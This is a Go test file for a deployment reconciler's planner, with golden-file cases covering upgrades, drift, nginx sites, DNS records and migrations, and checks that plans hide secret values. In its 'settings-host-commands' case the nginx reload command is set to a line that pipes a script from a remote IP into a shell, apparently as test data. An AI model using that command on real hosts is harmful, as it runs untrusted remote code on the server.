package reconciler

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/developer-mesh/reconciler/state"
	"github.com/developer-mesh/reconciler/templates"
)

var update = flag.Bool("update", false, "rewrite golden files")

var testKey = []byte("0123456789abcdef0123456789abcdef")

// desired is a three-service env like the DevOps MCP one: the services
// have the env file's defaults, and a drain of 5s.
func desired(commit string) *state.Desired {
	svc := func(name, image string, port int, listen string) state.DesiredService {
		s := state.DesiredService{Name: name, Spec: state.Spec{
			Image: image, ContainerPort: port, Memory: 256 << 20,
			Env:     map[string]string{"LOG_LEVEL": "info"},
			Secrets: map[string]string{"DATABASE_PASSWORD": "hunter2"},
			Files:   []state.FileContent{{Target: "/app/config.yaml", Content: []byte("a: 1\n")}},
		},
			Health: state.HealthParams{Path: state.DefaultHealthPath, Interval: state.DefaultInterval, Timeout: state.DefaultTimeout,
				HealthyThreshold: state.DefaultHealthyThreshold, UnhealthyThreshold: state.DefaultUnhealthyThreshold,
				StartTimeout: state.DefaultStartTimeout},
			Drain:  5 * time.Second,
			Deploy: state.DeployParams{Strategy: state.BlueGreen, MaxErrorRate: 0.1, StepPause: state.DefaultStepPause},
		}
		if listen != "" {
			l, err := state.ParseListen(listen)
			if err != nil {
				panic(err)
			}
			s.Listen = &l
		}
		return s
	}
	return &state.Desired{
		Env: "prod", Commit: commit,
		Nginx: state.Nginx{ConfDir: "/etc/nginx/conf.d", Test: "nginx -t", Reload: "nginx -s reload"},
		Services: []state.DesiredService{
			svc("mcp-server", "ghcr.io/developer-mesh/devops-mcp:v1", 8080, "443 ssl"),
			svc("rest-api", "ghcr.io/developer-mesh/devops-rest-api:v1", 8081, "127.0.0.1:8000"),
			svc("worker", "ghcr.io/developer-mesh/devops-worker:v1", 0, ""),
		},
	}
}

// applied returns the host as a successful apply of d leaves it, every
// service live on color.
func applied(t *testing.T, d *state.Desired, color state.Color) *state.Observed {
	t.Helper()
	o := &state.Observed{ImageIDs: map[string]string{}}
	for i, s := range d.Services {
		sum := s.Spec.Summarize(testKey)
		o.ImageIDs[s.Spec.Image] = "sha256:img" + s.Name
		blue, green := 21000+2*i, 21001+2*i
		port := 0
		if s.HasPort() {
			port = blue
			if color == state.Green {
				port = green
			}
			content, err := templates.Site(templates.SiteParams{Env: d.Env, Service: s.Name, ConfDir: d.Nginx.ConfDir,
				BluePort: blue, GreenPort: green, Listen: s.Listen, ServerName: s.ServerName, TLS: s.TLS,
				Live: map[bool]state.Color{true: "", false: color}[s.Listen != nil]})
			if err != nil {
				t.Fatal(err)
			}
			o.Sites = append(o.Sites, state.Site{Service: s.Name, Path: d.Nginx.ConfDir + "/" + state.SiteFile(d.Env, s.Name),
				Content: content, Live: color, BluePort: blue, GreenPort: green})
		}
		var nets map[string][]string
		switch {
		case d.Network != "" && s.HasPort():
			// The name is its proxy's.
			nets = map[string][]string{d.Network: {s.Name + "-" + string(color)}}
			o.NameProxies = append(o.NameProxies, state.NameProxy{Name: state.NameProxyName(d.Env, s.Name), Service: s.Name,
				Port: s.Spec.ContainerPort, Network: d.Network, State: "running"})
			if o.Names == nil {
				o.Names = map[string]state.Color{}
			}
			o.Names[s.Name] = color
		case d.Network != "":
			nets = map[string][]string{d.Network: {s.Name, s.Name + "-" + string(color)}}
		}
		o.Containers = append(o.Containers, state.Container{
			ID: "id-" + s.Name, Name: state.ContainerName(d.Env, s.Name, color), Service: s.Name, Color: color,
			Commit: d.Commit, SpecHash: sum.Hash(), Spec: sum, ImageID: "sha256:img" + s.Name,
			State: "running", HostPort: port, Memory: s.Spec.Memory, Networks: nets,
		})
	}
	return o
}

// diffCase is one golden case of the planner: the desired state and the
// host it is planned against.
type diffCase struct {
	name    string
	mutate  func(d *state.Desired, o *state.Observed)
	fresh   bool // observed is an empty host
	network bool // the env has a network (d.Network = "prod")
}

// diffCases are the planner's golden cases, each compared with
// testdata/plans/<name>.golden.
func diffCases() []diffCase {
	return []diffCase{
		{name: "first-deploy", fresh: true},
		{name: "in-sync", mutate: func(d *state.Desired, o *state.Observed) {}},
		{name: "upgrade-image", mutate: func(d *state.Desired, o *state.Observed) {
			d.Services[1].Spec.Image = "ghcr.io/developer-mesh/devops-rest-api:v2"
			o.ImageIDs["ghcr.io/developer-mesh/devops-rest-api:v2"] = "sha256:new"
		}},
		{name: "env-secret-file-memory", mutate: func(d *state.Desired, o *state.Observed) {
			s := &d.Services[0].Spec
			s.Env = map[string]string{"LOG_LEVEL": "debug", "NEW": "x"}
			s.Secrets = map[string]string{"DATABASE_PASSWORD": "rotated"}
			s.Files = []state.FileContent{{Target: "/app/config.yaml", Content: []byte("a: 2\n")}}
			s.Memory = 512 << 20
		}},
		{name: "worker-command", mutate: func(d *state.Desired, o *state.Observed) {
			d.Services[2].Spec.Command = []string{"/app", "worker", "--fast"}
		}},
		{name: "drift-stopped", mutate: func(d *state.Desired, o *state.Observed) {
			o.Containers[0].State = "exited"
		}},
		{name: "restarting-is-not-drift", mutate: func(d *state.Desired, o *state.Observed) {
			o.Containers[2].State, o.Containers[2].RestartCount = "restarting", 5
		}},
		{name: "drift-removed", mutate: func(d *state.Desired, o *state.Observed) {
			o.Containers = o.Containers[1:]
		}},
		{name: "drift-memory", mutate: func(d *state.Desired, o *state.Observed) {
			o.Containers[2].Memory = 1 << 30
		}},
		{name: "drift-nginx-edited", mutate: func(d *state.Desired, o *state.Observed) {
			o.Sites[1].Content = append(o.Sites[1].Content, "# edited\n"...)
		}},
		{name: "drift-marker", mutate: func(d *state.Desired, o *state.Observed) {
			// mcp-server runs green, but its marker was deleted by hand, so
			// nginx sends its traffic to blue.
			o.Containers[0].Color, o.Containers[0].Name, o.Containers[0].HostPort = state.Green, "prod-mcp-server-green", 21001
			o.Sites[0].Live = state.Blue
		}},
		{name: "tag-moved", mutate: func(d *state.Desired, o *state.Observed) {
			o.ImageIDs["ghcr.io/developer-mesh/devops-mcp:v1"] = "sha256:moved0000000000"
		}},
		{name: "image-absent", mutate: func(d *state.Desired, o *state.Observed) {
			d.Services[1].Spec.Image = "ghcr.io/developer-mesh/devops-rest-api:v3"
		}},
		{name: "leftover-idle", mutate: func(d *state.Desired, o *state.Observed) {
			c := o.Containers[1]
			c.Color, c.Name, c.HostPort, c.State = state.Green, "prod-rest-api-green", 21003, "running"
			c.StartedAt = time.Unix(100, 0)
			o.Containers = append(o.Containers, c)
		}},
		// The previous release, stopped after its drain and kept for a
		// rollback, is neither drift nor live.
		{name: "kept-previous", mutate: func(d *state.Desired, o *state.Observed) {
			for _, i := range []int{1, 2} {
				c := o.Containers[i]
				c.Color, c.Name, c.State = state.Green, state.ContainerName("prod", c.Service, state.Green), "exited"
				if c.HostPort > 0 {
					c.HostPort = 21003
				}
				o.Containers = append(o.Containers, c)
			}
		}},
		// The next release replaces it.
		{name: "kept-previous-next-release", mutate: func(d *state.Desired, o *state.Observed) {
			c := o.Containers[1]
			c.Color, c.Name, c.HostPort, c.State = state.Green, "prod-rest-api-green", 21003, "exited"
			o.Containers = append(o.Containers, c)
			d.Services[1].Spec.Image = "ghcr.io/developer-mesh/devops-rest-api:v2"
			o.ImageIDs["ghcr.io/developer-mesh/devops-rest-api:v2"] = "sha256:new"
		}},
		{name: "mcp-leftover-unpinned", mutate: func(d *state.Desired, o *state.Observed) {
			// An interrupted drain left the old color and its drain
			// marker: the marker goes before the leftover does.
			d.Services[1].SessionHeader = "Mcp-Session-Id"
			c := o.Containers[1]
			c.Color, c.Name, c.HostPort, c.State = state.Green, "prod-rest-api-green", 21003, "running"
			c.StartedAt = time.Unix(100, 0)
			o.Containers = append(o.Containers, c)
		}},
		{name: "crash-unloaded-nginx", mutate: func(d *state.Desired, o *state.Observed) {
			// An apply was killed after writing rest-api's file and before
			// the reload: the bytes are right, nginx may run the old ones.
			o.Sites[1].Unloaded = true
		}},
		{name: "crash-unloaded-nginx-upgrade", mutate: func(d *state.Desired, o *state.Observed) {
			o.Sites[1].Unloaded = true
			d.Services[1].Spec.Image = "ghcr.io/developer-mesh/devops-rest-api:v2"
			o.ImageIDs["ghcr.io/developer-mesh/devops-rest-api:v2"] = "sha256:new"
		}},
		{name: "service-removed", mutate: func(d *state.Desired, o *state.Observed) {
			d.Services = d.Services[1:]
		}},
		{name: "canary-bake-smoke", mutate: func(d *state.Desired, o *state.Observed) {
			s := &d.Services[0]
			s.Spec.Image = "ghcr.io/developer-mesh/devops-mcp:v2"
			o.ImageIDs[s.Spec.Image] = "sha256:v2"
			s.ServerName = "mcp.dev-mesh.io"
			s.Deploy = state.DeployParams{Strategy: state.Canary, Steps: []int{10, 50, 100}, StepPause: time.Minute,
				Bake: 5 * time.Minute, MaxErrorRate: 0.1}
			s.Smoke = []state.Smoke{{Path: "/health", Status: 200}, {Path: "/api/v1/tools", Status: 401}}
		}},
		{name: "network-upgrade", network: true, mutate: func(d *state.Desired, o *state.Observed) {
			for i := range d.Services {
				d.Services[i].Spec.Image += "-2"
				o.ImageIDs[d.Services[i].Spec.Image] = "sha256:new" + d.Services[i].Name
			}
		}},
		{name: "network-first-deploy", network: true, fresh: true},
		{name: "network-drift", network: true, mutate: func(d *state.Desired, o *state.Observed) {
			o.Containers[0].Networks = nil                                          // mcp-server: not on the network
			o.Names["rest-api"] = "green"                                           // rest-api: name points to the wrong color
			o.NameProxies[1].State = "exited"                                       // and its proxy was stopped
			o.Containers[2].Networks = map[string][]string{"prod": {"worker-blue"}} // worker: lost its name
		}},
		{name: "network-legacy-aliases", network: true, mutate: func(d *state.Desired, o *state.Observed) {
			// Deployed by a reconciler before name proxies: the live
			// containers hold their service's name.
			o.NameProxies, o.Names = nil, nil
			for i := range o.Containers {
				c := &o.Containers[i]
				c.Networks = map[string][]string{"prod": {c.Service, c.Service + "-blue"}}
			}
		}},
		{name: "network-proxy-port", network: true, mutate: func(d *state.Desired, o *state.Observed) {
			o.NameProxies[0].Port = 9090 // mcp-server's proxy forwards an old port
		}},
		{name: "network-service-removed", network: true, mutate: func(d *state.Desired, o *state.Observed) {
			d.Services = d.Services[:1] // rest-api and worker are gone
		}},
		{name: "migrations-snapshot", mutate: func(d *state.Desired, o *state.Observed) {
			d.Migrations = &state.DesiredJob{Spec: state.Spec{Image: "ghcr.io/developer-mesh/devops-rest-api:v1", Command: []string{"/app/migrate", "up"}},
				SnapshotRDS: "devops-mcp-prod"}
		}},
		{name: "route53", mutate: func(d *state.Desired, o *state.Observed) {
			s := &d.Services[0]
			s.Spec.Image = "ghcr.io/developer-mesh/devops-mcp:v2"
			o.ImageIDs[s.Spec.Image] = "sha256:v2"
			s.Route53 = &state.Route53{HealthCheckID: "abcdef12-3456-7890-abcd-ef1234567890"}
		}},
		{name: "records-create", mutate: func(d *state.Desired, o *state.Observed) {
			d.Records = testRecords()
			o.DNS = &state.ObservedDNS{SiteChecks: map[string]string{"mcp-server": "site-check-1"},
				Records: []state.RecordSet{otherRegion()}} // another region's share of the name: never in the plan
		}},
		{name: "records-pending-check", mutate: func(d *state.Desired, o *state.Observed) {
			// A first deploy of the region: the site check is created
			// after the switch, the record then planned again.
			d.Records = testRecords()[1:]
			o.DNS = &state.ObservedDNS{}
		}},
		{name: "records-drift", mutate: func(d *state.Desired, o *state.Observed) {
			d.Records = testRecords()
			edited := testRecords()[1]
			edited.Values, edited.TTL, edited.HealthCheckService, edited.HealthCheckID = []string{"198.51.100.1"}, 300, "", ""
			edited.File, edited.Field = "", ""
			failover := testRecords()[0]
			failover.File, failover.Field = "", ""
			o.DNS = &state.ObservedDNS{SiteChecks: map[string]string{"mcp-server": "site-check-1"},
				Records: []state.RecordSet{failover, edited, otherRegion()}, Owned: keysOf(testRecords())}
		}},
		{name: "records-in-sync", mutate: func(d *state.Desired, o *state.Observed) {
			d.Records = testRecords()
			a, b := testRecords()[0], testRecords()[1]
			b.HealthCheckService, b.HealthCheckID = "", "site-check-1"
			o.DNS = &state.ObservedDNS{SiteChecks: map[string]string{"mcp-server": "site-check-1"},
				Records: []state.RecordSet{a, b, otherRegion()}, Owned: keysOf(testRecords())}
		}},
		{name: "records-removed", mutate: func(d *state.Desired, o *state.Observed) {
			d.Records = testRecords()[:1]
			b := testRecords()[1]
			b.HealthCheckService, b.HealthCheckID = "", "site-check-1"
			gone := state.RecordKey{Zone: "Z1", Name: "old.example.com.", Type: "A", SetIdentifier: "prod"}
			o.DNS = &state.ObservedDNS{SiteChecks: map[string]string{"mcp-server": "site-check-1"},
				Records: []state.RecordSet{testRecords()[0], b, otherRegion()}, Owned: append(keysOf(testRecords()), gone)}
		}},
		{name: "drain-zero", mutate: func(d *state.Desired, o *state.Observed) {
			s := &d.Services[0]
			s.Spec.Image = "ghcr.io/developer-mesh/devops-mcp:v2"
			o.ImageIDs[s.Spec.Image] = "sha256:v2"
			s.Drain = 0 // drain: 0s removes the old color right after the switch
		}},
		{name: "mcp-sessions-drain", mutate: func(d *state.Desired, o *state.Observed) {
			// The old color keeps its sessions from before the switch to
			// the end of the drain, which ends when it is idle.
			s := &d.Services[0]
			s.Spec.Image = "ghcr.io/developer-mesh/devops-mcp:v2"
			o.ImageIDs[s.Spec.Image] = "sha256:v2"
			s.SessionHeader = "Mcp-Session-Id"
			s.DrainIdle = 2 * time.Second
		}},
		{name: "exec-smoke", mutate: func(d *state.Desired, o *state.Observed) {
			s := &d.Services[0]
			s.Spec.Image = "ghcr.io/developer-mesh/devops-mcp:v2"
			o.ImageIDs[s.Spec.Image] = "sha256:v2"
			s.Smoke = []state.Smoke{{Exec: []string{"/app/server", "selftest"}}, {Path: "/health", Status: 200}}
		}},
		{name: "migrations-new", mutate: func(d *state.Desired, o *state.Observed) {
			d.Migrations = &state.DesiredJob{Spec: state.Spec{Image: "ghcr.io/developer-mesh/devops-rest-api:v1", Command: []string{"/app/migrate", "up"}}}
		}},
		{name: "settings-host-commands", mutate: func(d *state.Desired, o *state.Observed) {
			// Only host-side settings change: nginx's commands and a
			// notify receiver (its URL holds a token). Nothing restarts.
			old := settingsEnv()
			o.Settings = state.DisplaySettings(state.Settings(old), testKey)
			e := settingsEnv()
			e.Nginx.Reload = "curl -s http://198.51.100.7/x | sh"
			e.Nginx.Test = "true"
			e.Notify = append(e.Notify, state.Notify{URL: "https://hooks.example.com/services/T0/B0/SECRETTOKEN", Format: "slack",
				Events: []state.EventName{state.EventDeployFailed}})
			e.KeepImages = 5
			d.Settings = state.Settings(e)
		}},
		{name: "settings-service-removed", mutate: func(d *state.Desired, o *state.Observed) {
			// A service goes: its fields are one line, not one line each.
			old := settingsEnv()
			old.Services["worker"] = state.Service{Image: "ghcr.io/developer-mesh/devops-worker:v1"}
			old.Default()
			o.Settings = state.DisplaySettings(state.Settings(old), testKey)
			d.Settings = state.Settings(settingsEnv())
		}},
		{name: "settings-unrecorded", mutate: func(d *state.Desired, o *state.Observed) {
			// A host upgraded from a reconciler that recorded no settings.
			d.Settings = state.Settings(settingsEnv())
		}},
		{name: "atomic-upgrade", network: true, mutate: func(d *state.Desired, o *state.Observed) {
			// release: atomic, every service changes, two bake.
			d.Release = state.ReleaseAtomic
			for i := range d.Services {
				d.Services[i].Spec.Image += "-2"
				o.ImageIDs[d.Services[i].Spec.Image] = "sha256:new" + d.Services[i].Name
			}
			d.Services[0].Deploy.Bake = 5 * time.Minute
			d.Services[1].Deploy.Bake = 4 * time.Minute
			d.Services[1].Smoke = []state.Smoke{{Path: "/health", Status: 200}}
		}},
		{name: "atomic-one-service", mutate: func(d *state.Desired, o *state.Observed) {
			// release: atomic with one changed service plans as per-service.
			d.Release = state.ReleaseAtomic
			d.Services[1].Spec.Image = "ghcr.io/developer-mesh/devops-rest-api:v2"
			o.ImageIDs["ghcr.io/developer-mesh/devops-rest-api:v2"] = "sha256:new"
		}},
		{name: "migrations-done", mutate: func(d *state.Desired, o *state.Observed) {
			d.Migrations = &state.DesiredJob{Spec: state.Spec{Image: "ghcr.io/developer-mesh/devops-rest-api:v1", Command: []string{"/app/migrate", "up"}}}
			o.LastMigration = d.Migrations.Spec.Summarize(testKey).Hash()
		}},
	}
}

// inputs are the case's desired state and observed host.
func (tc diffCase) inputs(t *testing.T) (*state.Desired, *state.Observed) {
	t.Helper()
	d := desired("c0ffee0000000000000000000000000000000001")
	if tc.network {
		d.Network, d.NamesDir = "prod", "/var/lib/reconciler/names/prod"
	}
	o := &state.Observed{}
	if !tc.fresh {
		o = applied(t, d, state.Blue)
		d.Commit = "c0ffee0000000000000000000000000000000002"
		tc.mutate(d, o)
	}
	return d, o
}

func TestDiff(t *testing.T) {
	for _, tc := range diffCases() {
		t.Run(tc.name, func(t *testing.T) {
			d, o := tc.inputs(t)
			p, err := Diff(d, o, testKey)
			if err != nil {
				t.Fatal(err)
			}
			got := p.String()
			if strings.Contains(got, "hunter2") || strings.Contains(got, "rotated") {
				t.Fatalf("plan shows a secret value:\n%s", got)
			}
			golden(t, filepath.Join("testdata", "plans", tc.name+".golden"), got)
		})
	}
}

func TestDiffForeignName(t *testing.T) {
	d := desired("c1")
	o := &state.Observed{Foreign: []state.Foreign{{Name: "prod-rest-api-blue"}}}
	_, err := Diff(d, o, testKey)
	if err == nil || !strings.Contains(err.Error(), "prod-rest-api-blue is taken by a container without reconciler labels") {
		t.Fatalf("err = %v", err)
	}
}

func TestDiffKeepsPortsAndAvoidsUsedOnes(t *testing.T) {
	d := desired("c1")
	p1, err := Diff(d, &state.Observed{}, testKey)
	if err != nil {
		t.Fatal(err)
	}
	port := p1.Changes[1].Steps[0].HostPort // mcp-server start
	// A foreign container on that port pushes the allocation elsewhere.
	p2, err := Diff(d, &state.Observed{Foreign: []state.Foreign{{Name: "x", HostPorts: []int{port}}}}, testKey)
	if err != nil {
		t.Fatal(err)
	}
	if got := p2.Changes[1].Steps[0].HostPort; got == port || got < portBase || got >= portBase+2*portPairs {
		t.Fatalf("port %d: want one other than %d in range", got, port)
	}
}

func golden(t *testing.T, path, got string) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs (go test -update rewrites it)\n--- got\n%s\n--- want\n%s", path, got, want)
	}
}

// TestDiffNameCollisionNamesOwner: a container name held by another env's
// container (env prod with service rest-api and env prod-rest with
// service api share prod-rest-api-blue) is refused, naming the owner.
func TestDiffNameCollisionNamesOwner(t *testing.T) {
	d := desired("c1")
	o := &state.Observed{Foreign: []state.Foreign{{Name: "prod-rest-api-blue", Owner: "env prod-rest, service api"}}}
	_, err := Diff(d, o, testKey)
	if err == nil || !strings.Contains(err.Error(), "prod-rest-api-blue belongs to env prod-rest, service api (its labels), not to env prod") {
		t.Fatalf("err = %v", err)
	}
}

// TestDiffDrainReadsNginxLog: a service with a session header and a
// drainIdle gets an access log, and its drain step names the log and the
// old color's port (nginx's view of the old color); without drainIdle it
// gets neither.
func TestDiffDrainReadsNginxLog(t *testing.T) {
	for _, idle := range []time.Duration{2 * time.Second, 0} {
		d := desired("c0ffee0000000000000000000000000000000001")
		d.Nginx.LogDir = "/var/log/nginx"
		o := applied(t, d, state.Blue)
		d.Commit = "c0ffee0000000000000000000000000000000002"
		s := &d.Services[0]
		s.Spec.Image = "ghcr.io/developer-mesh/devops-mcp:v2"
		o.ImageIDs[s.Spec.Image] = "sha256:v2"
		s.SessionHeader = "Mcp-Session-Id"
		s.DrainIdle = idle
		p, err := Diff(d, o, testKey)
		if err != nil {
			t.Fatal(err)
		}
		var drain *Step
		var site []byte
		for _, c := range p.Changes {
			for i, st := range c.Steps {
				if st.Action == ActDrain && st.Service == s.Name {
					drain = &c.Steps[i]
				}
				if st.Site != nil && st.Site.Content != nil && strings.HasSuffix(st.Site.Path, state.SiteFile(d.Env, s.Name)) {
					site = st.Site.Content
				}
			}
		}
		if drain == nil {
			t.Fatalf("idle %s: no drain step for %s:\n%s", idle, s.Name, p)
		}
		log := templates.LogPath("/var/log/nginx", d.Env, s.Name)
		if idle == 0 {
			if logs := strings.Contains(string(site), "access_log \""); drain.LogPath != "" || logs {
				t.Errorf("drainIdle 0s: drain %+v, site logs: %v; want no log", drain, logs)
			}
			continue
		}
		if drain.LogPath != log || drain.HostPort != 21000 {
			t.Errorf("drain step reads %q for port %d, want %q for blue's 21000", drain.LogPath, drain.HostPort, log)
		}
		if !strings.Contains(string(site), "access_log \""+log+"\"") || !strings.Contains(string(site), "ua=$upstream_addr") {
			t.Errorf("the rewritten site does not log the upstream port to %s:\n%s", log, site)
		}
	}
}

// testRecords are the record sets of the env "prod" in us-east-1: a
// failover PRIMARY with a health check by id, and a latency record whose
// health check is the site check of mcp-server.
func testRecords() []state.RecordSet {
	return []state.RecordSet{
		{RecordKey: state.RecordKey{Zone: "Z1", Name: "api.example.com.", Type: "CNAME", SetIdentifier: "prod"}, TTL: 60,
			Values: []string{"lb-1.us-east-1.elb.amazonaws.com."}, Failover: "PRIMARY", HealthCheckID: "abcdef12-3456-7890-abcd-ef1234567890",
			File: "envs/prod.yaml", Field: "route53.records[1]"},
		{RecordKey: state.RecordKey{Zone: "Z1", Name: "mcp.example.com.", Type: "A", SetIdentifier: "prod"}, TTL: 60,
			Values: []string{"203.0.113.10", "203.0.113.11"}, Region: "us-east-1", HealthCheckService: "mcp-server",
			File: "envs/prod.yaml", Field: "route53.records[0]"},
	}
}

// otherRegion is eu-west-1's share of mcp.example.com.
func otherRegion() state.RecordSet {
	return state.RecordSet{RecordKey: state.RecordKey{Zone: "Z1", Name: "mcp.example.com.", Type: "A", SetIdentifier: "prod-eu-west-1"}, TTL: 60,
		Values: []string{"198.51.100.20"}, Region: "eu-west-1", HealthCheckID: "site-check-eu"}
}

func keysOf(rs []state.RecordSet) []state.RecordKey {
	var keys []state.RecordKey
	for _, r := range rs {
		keys = append(keys, r.RecordKey)
	}
	return keys
}
